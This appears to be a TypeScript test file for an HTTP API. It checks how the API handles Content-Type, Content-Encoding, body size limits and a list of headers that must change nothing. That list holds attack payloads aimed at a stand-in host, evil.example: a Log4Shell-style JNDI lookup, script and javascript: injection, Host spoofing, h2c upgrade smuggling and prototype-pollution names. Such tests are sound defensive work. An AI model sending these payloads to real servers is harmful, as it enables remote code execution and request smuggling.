import type { ProblemCode } from '@orchestrator/contracts/problem.ts';
import { MOVIE_BODY_LIMIT_BYTES } from '@orchestrator/contracts/movie.ts';
import { ORDER_BODY_LIMIT_BYTES } from '@orchestrator/contracts/order.ts';
import { FIRST_MOVIE, HUSH, MOVIE, ORDER } from './bad-input.case.ts';
import type { Case } from './bad-input.case.ts';
import { request, requestWithBody } from './exchange.ts';

const JSON_TYPE = 'Content-Type: application/json\r\n';

const endpoints: Array<[method: string, target: string, body: Record<string, string>, limitBytes: number]> = [
  ['POST', '/api/billing', ORDER, ORDER_BODY_LIMIT_BYTES],
  ['POST', '/api/movies/', MOVIE, MOVIE_BODY_LIMIT_BYTES],
  ['PUT', FIRST_MOVIE, MOVIE, MOVIE_BODY_LIMIT_BYTES],
];

const unsupported: Array<string | undefined> = [
  undefined,
  '',
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/xml',
  'application/jsonx',
  'application/json-patch+json',
  'application/vnd.api+json',
  'application/ json',
  'application/json/',
  'application',
  '*/*',
  `${HUSH}/json`,
  'application/json\ta',
  'application/json a',
  'application/json, text/plain',
  'text/plain, application/json',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json;charset="utf-16"',
  'application/json; charset=utf-7',
];

const supported = [
  'application/json',
  'application/json;charset=utf-8',
  'application/json; charset=UTF-8',
  'application/json; charset="utf-8"',
  'APPLICATION/JSON',
  ' application/json ',
  'application/json; x=y',
];

const encodings = ['gzip', 'deflate', 'br', 'zstd', 'GZIP', 'gzip, identity', 'x-gzip', HUSH];

const mediaTypes = endpoints.flatMap(([method, target, body]): Case[] => {
  const json = JSON.stringify(body);
  const send = (headers: string): Buffer => requestWithBody(method, target, json, headers);
  return [
    ...unsupported.map((type) => ({
      what: `${method} ${target}: Content-Type ${type}`,
      bytes: send(type === undefined ? '' : `Content-Type: ${type}\r\n`),
      status: 415,
      code: 'unsupported_media_type' as ProblemCode,
    })),
    ...supported.map((type) => ({
      what: `${method} ${target}: Content-Type ${type}`,
      bytes: send(`Content-Type: ${type}\r\n`),
      status: 200,
      stored: body,
    })),
    ...encodings.map((encoding) => ({
      what: `${method} ${target}: Content-Encoding ${encoding}`,
      bytes: send(`${JSON_TYPE}Content-Encoding: ${encoding}\r\n`),
      status: 415,
      code: 'unsupported_media_type' as ProblemCode,
    })),
    {
      what: `${method} ${target}: Content-Encoding identity`,
      bytes: send(`${JSON_TYPE}Content-Encoding: identity\r\n`),
      status: 200,
      stored: body,
    },
    {
      what: `${method} ${target}: no body at all`,
      bytes: request(method, target, JSON_TYPE),
      status: 400,
      code: 'malformed_json',
    },
    {
      what: `${method} ${target}: an empty chunked body`,
      bytes: request(method, target, `${JSON_TYPE}Transfer-Encoding: chunked\r\n`, '0\r\n\r\n'),
      status: 400,
      code: 'malformed_json',
    },
  ];
});

const sizes = endpoints.flatMap(([method, target, body, limitBytes]): Case[] => {
  const padded = (bytes: number): string => JSON.stringify(body).padEnd(bytes, ' ');
  const announced = (bytes: number): Buffer => requestWithBody(method, target, padded(bytes));
  const chunked = (bytes: number): Buffer =>
    request(
      method,
      target,
      `${JSON_TYPE}Transfer-Encoding: chunked\r\n`,
      `${bytes.toString(16)}\r\n${padded(bytes)}\r\n0\r\n\r\n`,
    );
  const around = [['announced', announced] as const, ['chunked', chunked] as const].flatMap(([how, make]): Case[] => [
    ...[limitBytes - 1, limitBytes].map((bytes) => ({
      what: `${method} ${target}: ${bytes} bytes, ${how}`,
      bytes: make(bytes),
      status: 200,
      stored: body,
    })),
    ...[limitBytes + 1, limitBytes * 4].map((bytes) => ({
      what: `${method} ${target}: ${bytes} bytes, ${how}`,
      bytes: make(bytes),
      status: 413,
      code: 'body_too_large' as ProblemCode,
    })),
  ]);
  const nested = '['.repeat(limitBytes / 2) + ']'.repeat(limitBytes / 2);
  return [
    ...around,
    {
      what: `${method} ${target}: nesting as deep as a body can hold`,
      bytes: requestWithBody(method, target, nested),
      status: 400,
      code: 'malformed_json',
    },
  ];
});

/** Headers that a client may send and that must change nothing. */
const ignored = [
  '__proto__: x',
  'constructor: x',
  'X-Forwarded-For: 10.0.0.1',
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-Proto: gopher',
  'X-Real-IP: 10.0.0.1',
  'Forwarded: for=10.0.0.1;host=evil.example',
  'Host: evil.example',
  'Host: ',
  'X-Original-URL: /health/ready',
  'X-Rewrite-URL: /health/ready',
  'Proxy-Authorization: Basic aHVzaA==',
  'Proxy-Connection: keep-alive',
  'TE: trailers, deflate',
  'Trailer: X-Test',
  'Keep-Alive: timeout=-1',
  'Connection: close, close',
  'Connection: host',
  'Connection: x-request-id',
  'Upgrade: websocket',
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGVzdA==\r\nSec-WebSocket-Version: 13',
  'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Range: bytes=0-0',
  'Range: bytes=5-1',
  'If-None-Match: *',
  'If-Modified-Since: never',
  'Accept: text/nothing',
  'Accept: ',
  'Accept-Encoding: gzip;q=banana',
  'Accept-Charset: utf-16',
  'Authorization: Bearer hush',
  'Cookie: a=b; __proto__=c',
  'traceparent: 00-x-y-z',
  `traceparent: 00-${'0'.repeat(32)}-${'0'.repeat(16)}-00`,
  'tracestate: \u00ff',
  `tracestate: ${'a=1,'.repeat(500)}`,
  'X-Request-Id: a b<script>',
  `X-Request-Id: ${'x'.repeat(1000)}`,
  'Origin: https://evil.example',
  'Referer: javascript:alert(1)',
  'User-Agent: ${jndi:ldap://evil.example/a}',
  'X-Test: \u00ff\u00fe',
  'Via: 1.1 api-gateway',
  'Max-Forwards: 0',
].flatMap((line): Case[] =>
  ['/api/movies', FIRST_MOVIE, '/api/billing', '/health/live'].map((target) => ({
    what: `GET ${target} with ${JSON.stringify(line.slice(0, 40))}`,
    bytes: request('GET', target, `${line}\r\n`),
    status: 200,
  })),
);

export const headerCases: Case[] = [...mediaTypes, ...sizes, ...ignored];
